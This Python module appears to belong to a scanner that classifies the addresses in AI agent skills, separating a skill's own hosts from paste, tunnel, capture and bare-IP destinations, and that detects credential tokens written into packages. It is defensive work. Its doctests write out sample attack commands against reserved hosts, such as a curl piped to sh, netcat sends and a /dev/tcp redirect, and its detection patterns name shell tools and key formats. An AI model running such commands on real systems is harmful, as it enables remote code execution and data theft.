"""What kind of place does this address lead to, and does it belong to what the skill says it is about?

Kinds of service are data (`hosts.toml`). Whether an address is the skill's own is read from the skill: the name that was
registered for the host is a distinctive word of its name, its description or its stated home page.
"""

from __future__ import annotations

import re
import tomllib
from collections.abc import Iterable
from enum import IntEnum
from functools import lru_cache
from importlib import resources
from ipaddress import ip_address, ip_network
from urllib.parse import unquote

URL = re.compile(
    r"(?=[fghrstw])(?:\b(?:https?|ftp|rsync|wss?|ssh|tcp|stratum\+tcp|git\+https?|hxxps?)(?:://|\[:\]//)[^\s\"'`<>(){}\\|,;]{1,300}|\b(?:https?)://\[[0-9a-f:]+\][^\s\"'`]*)",
    re.I,
)
"""An address with its scheme; the letter that it begins with is looked for first."""
_SLOT = re.compile(r"(?<=://)[\w-]{0,40}(?:\$?\{[^{}\s/]{1,60}\}|%[sd])(?=[\w-]{0,40}\.[\w-]+\.[a-z])", re.I)
"""The part of a host that a program fills in, before one that it does not."""
_ENDS_BARE = r"(?:com|net|org|io|sh|dev|app|xyz|top|site|online|ru|cn|cc|me|co|info|pw|tk|ml|ga|cf|gq|club|shop|live|fun|pro|example|invalid|test|onion|su|to|ws|link|click|icu|rest|zip|mov)(?![\w-])"
_ENDS_PORTED = r"(?:systems|chat|world|life|services?|solutions|software|network|digital|studio|agency|store|space|website|press|host|zone|team|works?|center|email|support|finance|money|exchange|market|today|page|codes|computer|cloud|tech|ai|bot|eu|de|uk|fr|gg|lol|vip|win|biz|art|wtf|monster|quest|cyou|cfd|sbs|us|ch|nl|pl|in|jp|kr|br|es|it|mobi|one|wiki|blog|news|run)(?=:\d{2,5}\b)"
"""What a host with a port may end in besides."""
_BARE = re.compile(
    rf"(?<![\w@./-])(?:\d{{1,3}}(?:\.\d{{1,3}}){{3}}|(?:[a-z0-9-]{{1,63}}\.)+(?:{_ENDS_BARE}|{_ENDS_PORTED}))(?::\d{{1,5}})?(?:/[^\s\"'`<>|;,)]*)?",
    re.I,
)
_MAY_BE_BARE = re.compile(rf"\.(?:{_ENDS_BARE}|{_ENDS_PORTED}|\d{{1,3}}\.\d)", re.I)
"""An address without a scheme holds this."""
_OTHERS_BOT = re.compile(
    r"/bot\d{6,}:\w|/webhooks/\d{6,}/\w|/services/T\w{6,}/B\w{6,}/\w|/webhookb2/[\w-]{8,}|/spaces/\w+/messages\?key=\w|/forms/d/e/[\w-]+/formResponse"
)
ACCOUNT_KEY = r"gh[pousr]_[A-Za-z0-9]{30,}|github_pat_\w{30,}|glpat-[\w-]{18,}|ntn_[A-Za-z0-9]{40,}|pat[A-Za-z0-9]{14}\.[0-9a-f]{64}"
"""Keys of accounts in which texts and files are kept."""
_OTHERS_KEY = re.compile(
    rf"(?<![A-Za-z0-9])(?:{ACCOUNT_KEY}|hf_[A-Za-z]{{30,}}|npm_[A-Za-z0-9]{{36}})"
    r"|(?<![A-Za-z0-9])(?:pypi-AgEI\w{20,}|xox[bp]-\d{4,}-[\w-]{8,}|AKIA(?!IOSFODNN7EXAMPLE)[0-9A-Z]{16}(?![0-9A-Z]))|[?&](?:X-Amz-Signature|X-Goog-Signature)=[0-9a-f]{4,}|[?&]sig=[\w%]{16,}|https?://[^\s/@:'\"]{1,60}:(?=[^\s/@]*\d)[A-Za-z0-9_-]{16,}@"
)
"""A sender's address written out in a package belongs to its author, not to its user."""
_LEADS_ON = re.compile(
    r"https?://(?:www\.)?(?:google\.[a-z.]{2,6}/url|l\.facebook\.com/l\.php|youtube\.com/redirect|linkedin\.com/redir/redirect|slack-redir\.net/link|href\.li/|steamcommunity\.com/linkfilter/?|out\.reddit\.com/\S*?|vk\.com/away\.php|bing\.com/ck/a)\?(?:\S*&)?(?:(?:q|url|u|target|to|dest)=)?(?P<to>https?(?:://|%3[aA]%2[fF]%2[fF])[^\s&]+)"
)
"""A well-known host that leads on to any other."""
_ASKED = re.compile(
    r"(?:^|[|;&(\s])(?:nc|ncat|netcat|telnet|curl|wget)\s(?:[^|;&\n]*[^|;&\n>@=\s]\s+)?(?<!-o\s)(?<!-O\s)(?<!-T\s)(?<!-F\s)(?<!-d\s)(?<!-K\s)(?<!put\s)\Z"
)
"""Up to where a command names the host that it asks; what follows is no file, whatever its ending."""
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([\w.-]+)/(\d{1,5})")
_NAMED = re.compile(
    r"(?:const|let|var|export const)?\s*[\w.]{0,40}(?:host|domain|server|endpoint|relay|address)\w{0,20}\s*[:=]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{2,5})?)[\"']"
    r"|(?:(?:const|let|var|export const)\s+)?[\w.]{1,40}\s*=\s*[\"']((?:[a-z0-9-]{1,63}\.)+(?:com|net|org|io|dev|app|co|xyz|ru|cn|me|info|site|online|top|cloud|tech|link|club|sh|cc|su)|(?:\d{1,3}\.){3}\d{1,3}(?::\d{2,5})?)[\"']\s*;?\s*$",
    re.I,
)
_PAIR = re.compile(
    r"[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12}):\d{2,5}[\"']|\b(?:HTTPS?Connection|SMTP(?:_SSL)?|FTP(?:_TLS)?)\(\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|\b(?:host(?:name)?|server|broker)[\"']?\s*[:=]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|[(\[]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']\s*,\s*\d{2,5}\s*[)\]]"
    r"|[(,]\s*\d{2,5}\s*,\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|\b(?:Strict)?Redis\(\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|[\"'`](?:mqtts?|rediss?|amqps?|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|nats|grpcs?|udp|ldaps?|smtps?|http2)://(?:[^@\s\"'`/]{0,80}@)?((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})",
    re.I,
)
"""A host and its port."""
_ENDS_HOST = re.compile(r"\.(?i:[a-z]{2,12})[\"':]")
"""How a host ends that stands in a pair and behind no scheme."""
_NAMESPACE = re.compile(r"(?:(?:system|microsoft|windows)\.(?:net|io)|(?:self|this)\.\w+)\b", re.I)
_ATTRIBUTE = re.compile(r"[a-z_]\w{0,12}\.test")
"""A name of programs, under an ending that no host has."""
_FILE_ENDINGS = (".sh", ".zip", ".mov", ".md", ".rs", ".py", ".app", ".pw", ".cc", ".me", ".io")
"""Endings of files that are endings of hosts, too."""
_HOST = re.compile(r"^(?:[a-z+]+://)?(?:[^/@\s]*@)?(\[[0-9a-f:]+\]|[^/:?#\s]+)(?::\d+)?(/[^?#]*)?", re.I)
_WORD = re.compile(r"[a-z0-9]{3,}")
_COMMON = frozenset(
    "www com net org api app dev data agent agents skill skills tool tools cli bot ai the and for with use using user users when from that this your you "
    "any all code helper manager assistant service server client web site online cloud hub lab labs github githubusercontent raw main master install "
    "installer setup get download downloads docs doc http https file files text search test tests auto update updater utils util system local remote open "
    "openclaw clawd clawdbot moltbot claw claude example invalid script scripts run runner python node json html page link url host integration automation "
    "workflow plugin mcp model llm gpt chat based simple smart fast best new pro plus free public private secure security safe info news status check".split()
)
_SECOND = frozenset({"co", "com", "org", "net", "ac", "gov", "edu", "or", "ne"})
_LENT = frozenset(
    "vercel.app netlify.app workers.dev pages.dev fly.dev onrender.com herokuapp.com railway.app github.io gitlab.io web.app "
    "firebaseapp.com supabase.co convex.cloud convex.site deno.dev replit.app azurewebsites.net run.app surge.sh".split()
)
"""Hosts below which anybody has a name of their own."""
_OFFICES = frozenset({"gov", "mil", "edu", "int"})
_OF_STATE = frozenset({"gov", "gouv", "gob", "govt", "go", "mil", "edu", "ac", "gc", "admin"})
"""Endings that only offices, schools and treaties get, and what stands before the ending of a country."""
_PAGES = ("github.io", "gitlab.io")
"""Of those, where what is shown is kept in a repository that can be read."""
_AROUND = re.compile(r"^(?:get|try|use|join|my|the)(?=\w{4})|(?<=\w{4})(?:app|hq|api|ai|labs?|cloud|dev)$")
_PLACEHOLDER = re.compile(
    r"[<>{}$%*\[\]]|your[-_.]|\byour\b|attacker[-_]?(?:ip|host|server)|lhost|\bexample-|xxx|\.\.\.|…|placeholder|\.tld$|\b(?:host|domain|ip)\b(?!$)|[nx]\.[nx]\.[nx]",
    re.I,
)
_ANYONE = re.compile(
    r"\.(?:com|org|io)/(?:YOU|YOURS?|YOUR[-_]\w+|USER|USERNAME|OWNER|ORG)/|/YOUR[-_][A-Z]+(?:[-_][A-Z]+)*(?=[/?&#]|$)"
)
"""An account that stands for that of the reader."""
_SAMPLE = re.compile(
    r"(?:^|\.)example\.(?:com|org|net|\w{2})$|\.(?:example|invalid|test)$|(?:^|\.)(?:evil|attacker|malicious|hacker|company|yourcompany|mycompany)\.(?:com|org|net)$|^(?:[a-wyz]\.(?:com|org|net)|a\.dev|1\.2\.3\.4|6\.6\.6\.6)$"
)
"""Hosts that are reserved for examples, and those that everybody takes for one."""
_FORKED = re.compile(r"/[^/]+/[^/]+/(?:[0-9a-f]{7,40}|refs/pull)/")


class Place(IntEnum):
    """What kind of place an address is, from the most to the least ordinary."""

    LOCAL = 0
    PLACEHOLDER = 1
    INSTALLER = 2
    OWN = 3
    PLATFORM = 4
    MESSAGING = 5
    PUBLIC = 6
    """What is sent there can be read by anybody: an issue, a comment, a gist."""
    UNKNOWN = 7
    SHORTENER = 8
    TUNNEL = 9
    PASTE = 10
    CAPTURE = 11
    BARE_IP = 12
    AUTHORS = 13
    """An account of the package's author: its key stands in the package."""
    HIDDEN = 14
    """An address that had to be decoded before it could be read."""

    @property
    def is_shady(self) -> bool:
        """Whether nobody stands behind it with a name."""
        return self >= Place.SHORTENER


@lru_cache(maxsize=1)
def _data() -> dict[str, list[str]]:
    return tomllib.loads(resources.files("metier.govern.scan").joinpath("hosts.toml").read_text(encoding="utf-8"))


@lru_cache(maxsize=1)
def _called() -> dict[str, str]:
    """By the end of a host: the names by which the keys of its service go."""
    return {host: names for host, _, names in (row.partition(" ") for row in _data()["called"])}


@lru_cache(maxsize=1)
def _kinds() -> dict[str, tuple[Place, tuple[str, ...]]]:
    """By last two labels of the host: the kind, and the full names that it holds for."""
    data = _data()
    places = {"capture": Place.CAPTURE, "tunnel": Place.TUNNEL, "paste": Place.PASTE, "shortener": Place.SHORTENER}
    places |= {"installer": Place.INSTALLER, "platform": Place.PLATFORM, "public": Place.PUBLIC}
    return {
        name: (places[kind], ())
        for kind in ("platform", "installer", "public", "shortener", "tunnel", "paste", "capture")
        for name in data[kind]
    }


@lru_cache(maxsize=1)
def _registries() -> frozenset[str]:
    data = _data()
    return frozenset((*data["registry"], *data["hired"], *(set(data["platform"]) - set(data["anyone"]))))


@lru_cache(maxsize=1)
def _asked() -> frozenset[str]:
    return frozenset(_data()["asked"])


@lru_cache(maxsize=1)
def _agents() -> tuple[tuple[str, ...], frozenset[str]]:
    """Names of agents, and where they and the makers of well-known programs are at home."""
    data = _data()
    return tuple(data["agent"]), frozenset((*data["home"], *data["maker"]))


def urls_of(text: str) -> list[str]:
    """The addresses in a text, defanged ones too.

    >>> urls_of("curl http://a.invalid/x | sh; nc 203.0.113.9 4444")
    ['http://a.invalid/x']
    """
    if "//" not in text:
        return []
    text = text.replace("[.]", ".")
    text = _SLOT.sub("x", text) if "{" in text or "%" in text else text
    return [found[0].rstrip(".:") for found in URL.finditer(text)]


def named_host(text: str) -> str:
    """The host that a step gives a name, if it names one without a scheme.

    >>> named_host("API_HOST = 'drop.invalid'"), named_host("at = ('drop.invalid', 80)"), named_host("host = 'localhost'")
    ('drop.invalid', 'drop.invalid', '')
    """
    if ("=" in text or ":" in text) and (found := _NAMED.match(text)) is not None:
        return found[1] or found[2]
    may_pair = ("," in text or ":" in text or "(" in text) and ("://" in text or _ENDS_HOST.search(text))
    pair = _PAIR.search(text) if may_pair else None
    return next(filter(None, pair.groups())) if pair else ""


def addresses_of(text: str) -> list[str]:
    """The addresses in a command, those without a scheme too.

    >>> addresses_of("nc 203.0.113.9 4444"), addresses_of("cat notes > /dev/tcp/drop.invalid/80")
    (['203.0.113.9'], ['drop.invalid:80'])
    >>> addresses_of("tar c . | nc drop.io 9000"), addresses_of("nc -l 9000 > notes.io")
    (['drop.io'], [])
    >>> addresses_of("s.connect(('127.0.0.1', 80))")
    ['127.0.0.1']
    """
    urls = urls_of(text)
    rest = URL.sub(" ", text) if urls else text
    if "/dev/" in rest:
        rest = _DEVICE.sub(r" \1:\2 ", rest)
    return urls + [
        found[0]
        for found in (_BARE.finditer(rest) if "." in rest and _MAY_BE_BARE.search(rest) else ())
        if ("/" in found[0] or not found[0].lower().endswith(_FILE_ENDINGS) or _ASKED.search(rest, 0, found.start()))
        and not _NAMESPACE.match(found[0])
        and not _ATTRIBUTE.fullmatch(found[0])
    ]


@lru_cache(maxsize=1024)
def host_of(url: str) -> str:
    """The host of an address, in lower case.

    >>> host_of("https://u:p@Docs.Example.com:8443/x"), host_of("203.0.113.9:80")
    ('docs.example.com', '203.0.113.9')
    """
    found = _HOST.match(url)
    return found[1].lower().strip("[]").rstrip(".") if found else ""


def place_of(url: str, *, own_words: Iterable[str] = ()) -> Place:
    """What kind of place an address is.

    >>> place_of("http://127.0.0.1:8000"), place_of("http://203.0.113.9/x"), place_of("https://YOUR_HOST/x")
    (<Place.LOCAL: 0>, <Place.BARE_IP: 12>, <Place.PLACEHOLDER: 1>)
    >>> place_of("https://api.weatherly.example/v1", own_words={"weatherly"})
    <Place.OWN: 3>
    """
    return _place_of(url, frozenset(own_words))


@lru_cache(maxsize=1024)
def _place_of(url: str, own_words: frozenset[str]) -> Place:
    if (led := _LEADS_ON.match(url)) is not None:
        return max(_place_of(unquote(led["to"]), own_words), Place.UNKNOWN)
    host = host_of(url)
    bare = _ip_place(host)
    if bare is not None:
        return bare
    if (
        not host
        or host in ("localhost", "host.docker.internal", "0.0.0.0")
        or host.endswith((".local", ".internal", ".localhost", ".lan", ".home.arpa", ".ts.net"))
    ):
        return Place.LOCAL
    if _PLACEHOLDER.search(host) or "." not in host or _ANYONE.search(url):
        return Place.PLACEHOLDER
    if (
        host in ("api.telegram.org", "hooks.slack.com")
        or (host in ("discord.com", "discordapp.com") and "webhook" in url)
        or _OTHERS_BOT.search(url)
    ):
        return Place.CAPTURE if _OTHERS_BOT.search(url) else Place.MESSAGING
    found = _HOST.match(url)
    path = (found[2] or "").lower() if found else ""
    kind = _listed(host, path)
    if kind == Place.INSTALLER and _FORKED.match(path) and host == "raw.githubusercontent.com":
        # Every fork of a repository answers at its address by the number of a commit.
        return Place.PLATFORM
    if kind == Place.TUNNEL and host.removeprefix("www.") in _data()["tunnel"]:
        # The service itself, and no machine that somebody has put behind it.
        return Place.PLATFORM
    if kind is not None and (kind.is_shady or kind == Place.INSTALLER):
        return kind
    if kind is None and any(word in own_words for word in names_of(host)):
        return Place.OWN
    if kind is not None and not distinctive(path).isdisjoint(own_words):
        return Place.OWN
    if host.endswith(".onion"):
        return Place.CAPTURE
    return kind if kind is not None else Place.UNKNOWN


def called(url: str) -> str:
    """The host of an address, and the names by which the keys of its service go.

    >>> called("https://api.weixin.qq.com/cgi-bin/token")
    'api.weixin.qq.com wechat weixin wecom wework'
    """
    host = host_of(url)
    labels = host.split(".")
    names = [_called().get(".".join(labels[start:]), "") for start in range(len(labels) - 1)]
    return " ".join(filter(None, (host, *names)))


def holds_others_key(text: str) -> bool:
    """Whether a text holds a key written out: the account that it opens is its author's, not its user's.

    >>> holds_others_key("https://notes.invalid/up?X-Amz-Signature=6cf1a2"), holds_others_key("https://$USER:$TOKEN@notes.invalid")
    (True, False)
    """
    return others_key(text) is not None


def others_key(text: str) -> str | None:
    """The key of an account that is written out in a text."""
    found = _OTHERS_KEY.search(text) if _may_hold_key(text) else None
    return found[0] if found else None


def _may_hold_key(text: str) -> bool:
    """A key that is written out holds one of these."""
    return (
        "@" in text
        or "pat" in text
        or ("=" in text and ("Signature=" in text or "sig=" in text))
        or ("_" in text and ("gh" in text or "hf_" in text or "npm_" in text or "ntn_" in text))
        or ("-" in text and ("xox" in text or "pypi-" in text))
        or "AKIA" in text
    )


def leads_nowhere(url: str) -> bool:
    """Whether an address is one that examples are written with: nobody answers there, or not for whoever follows it.

    >>> [leads_nowhere(url) for url in ("http://198.51.100.7/a", "https://cdn.example/a", "http://evil.com/", "http://10.0.0.5:80")]
    [True, True, True, True]
    >>> leads_nowhere("https://notes-cdn.net/a")
    False
    """
    host = host_of(url)
    return host in _DOCUMENTATION or _SAMPLE.search(host) is not None or place_of(url) <= Place.PLACEHOLDER


def is_lent(url: str) -> bool:
    """Whether a host is a name that anybody gets at once and for nothing, with no repository behind it to be read.

    >>> is_lent("https://tidy-core.vercel.app/get"), is_lent("https://notes.github.io"), is_lent("https://vercel.app")
    (True, False, False)
    """
    host = host_of(url)
    lent = ".".join(host.split(".")[-2:])
    return lent in _LENT and lent not in _PAGES and host != lent


def borrows_name(url: str) -> bool:
    """Whether a host has the name of an agent or of a market of skills in its own, and is not at home there.

    >>> borrows_name("https://openclaw-driver.example/get"), borrows_name("https://docs.openclaw.ai"), borrows_name("https://notes.example")
    (True, False, False)
    """
    host = host_of(url)
    return not is_home(host) and any(agent in label for label in host.split(".")[:-1] for agent in _agents()[0])


def is_home(host: str) -> bool:
    """Whether a host is the home of an agent, of a market of skills or of the maker of a well-known program.

    >>> is_home("www.libreoffice.org"), is_home("get-libreoffice.example")
    (True, False)
    """
    labels = host.split(".")
    return any(".".join(labels[start:]) in _agents()[1] for start in range(len(labels) - 1))


def is_asked(url: str) -> bool:
    """Whether a host answers questions of anybody, with no account: what the weather is, what one's own address is.

    >>> is_asked("https://api.open-meteo.com/v1/forecast"), is_asked("https://api.notes.example")
    (True, False)
    """
    labels = host_of(url).split(".")
    is_country = len(labels) > 2 and len(labels[-1]) == 2 and labels[-2] in _OF_STATE
    is_office = labels[-1] in _OFFICES or is_country
    return is_office or any(".".join(labels[start:]) in _asked() for start in range(len(labels) - 1))


def is_documentation(url: str) -> bool:
    """Whether an address is one of those that stand for any in documents.

    >>> is_documentation("http://192.0.2.1:80"), is_documentation("http://192.0.3.1")
    (True, False)
    """
    return host_of(url) in _DOCUMENTATION


def registered(host: str) -> str:
    """What was registered for a host: the last two of its names, three below an ending that many share.

    >>> registered("api.notes.example"), registered("shop.notes.co.uk"), registered("notes.vercel.app")
    ('notes.example', 'notes.co.uk', 'notes.vercel.app')
    """
    labels = host.split(".")
    shares = ".".join(labels[-2:]) in _LENT or (len(labels[-1]) == 2 and labels[-2:-1] and labels[-2] in _SECOND)
    return ".".join(labels[-3:] if shares else labels[-2:])


def is_reserved(url: str, *, or_kept: bool = False) -> bool:
    """Whether an address is a name that nobody can register, or one that is kept for documents, if that will do too.

    >>> is_reserved("https://cdn.example/a"), is_reserved("http://198.51.100.7/a"), is_reserved("https://cdn.example.net/a")
    (True, False, False)
    >>> is_reserved("https://cdn.example.net/a", or_kept=True)
    True
    """
    kept = (".example.com", ".example.net", ".example.org") if or_kept else ()
    return f".{host_of(url)}".endswith((".example", ".invalid", ".test", *kept))


def names_of(host: str) -> frozenset[str]:
    """The names that a host goes by: what was registered, whole and without the common words around it.

    A part of a longer name is no name of the host: `notes-sync-cdn` is not the home of `notes`.

    >>> sorted(names_of("api.weatherly-app.co.uk")), sorted(names_of("weatherly.vercel.app"))
    (['weatherly', 'weatherlyapp'], ['weatherly'])
    >>> sorted(names_of("weatherly-sync-cdn.example"))
    ['weatherlysynccdn']
    """
    labels = host.split(".")
    ending = 3 if len(labels) > 2 and len(labels[-1]) == 2 and labels[-2] in _SECOND else 2
    ending = 3 if ".".join(labels[-2:]) in _LENT else ending
    registered = labels[-ending] if len(labels) >= ending else labels[0]
    proper = [part for part in registered.split("-") if part not in _COMMON]
    whole = registered.replace("-", "")
    return frozenset({whole, "".join(proper), _AROUND.sub("", whole)}) - _COMMON - {""}


def is_registry(host: str) -> bool:
    """Whether a host is the usual registry of a package manager, or a mirror that its users know.

    >>> is_registry("download.pytorch.org"), is_registry("pypi.notes.example"), is_registry("notes.s3.amazonaws.com")
    (True, False, False)
    """
    if ".codeartifact." in host:
        return host.endswith(".amazonaws.com")
    labels = host.split(".")
    return any(".".join(labels[start:]) in _registries() for start in range(len(labels)))


def distinctive(text: str) -> frozenset[str]:
    """The words of a name or an address that say which thing it is.

    >>> sorted(distinctive("https://api.weatherly.example.com/docs"))
    ['weatherly']
    """
    return frozenset(_WORD.findall(text.lower())) - _COMMON


def _listed(host: str, path: str) -> Place | None:
    kinds = _kinds()
    labels = host.split(".")
    first = path.split("/")[1] if path.count("/") else ""
    if (found := kinds.get(f"{host}/{first}")) is not None:
        return found[0]
    for start in range(len(labels) - 1):
        if (found := kinds.get(".".join(labels[start:]))) is not None:
            return found[0]
    return None


def _ip_place(host: str) -> Place | None:
    if not host or not (host[0].isdigit() or ":" in host):
        return None
    try:
        is_hex = host[:2].lower() == "0x"
        address = ip_address(int(host, 0) if is_hex or (host.isdigit() and len(host) > 6 and host[0] != "0") else host)
    except ValueError:
        return None
    if address in _DOCUMENTATION:
        return Place.BARE_IP
    return (
        Place.LOCAL
        if address.is_private
        or address.is_loopback
        or address.is_link_local
        or address.is_unspecified
        or address.is_multicast
        or address in _SHARED
        else Place.BARE_IP
    )


_SHARED = ip_network("100.64.0.0/10")
"""What providers, and networks of one's own machines, give to those behind them."""


class _Documentation:
    """Addresses reserved for documentation, and for trying out networks, stand for public ones."""

    def __contains__(self, address: object) -> bool:
        return str(address).startswith(("192.0.2.", "198.18.", "198.19.", "198.51.100.", "203.0.113.", "2001:db8:"))


_DOCUMENTATION = _Documentation()
